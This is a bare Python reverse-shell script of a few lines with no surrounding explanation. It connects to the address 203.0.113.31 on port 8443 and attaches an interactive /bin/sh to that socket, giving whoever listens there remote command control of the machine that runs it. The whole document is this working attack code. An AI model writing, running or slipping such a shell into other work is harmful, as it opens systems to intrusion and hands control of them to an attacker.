import socket, subprocess

c = socket.create_connection(('203.0.113.31', 8443))
subprocess.call(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
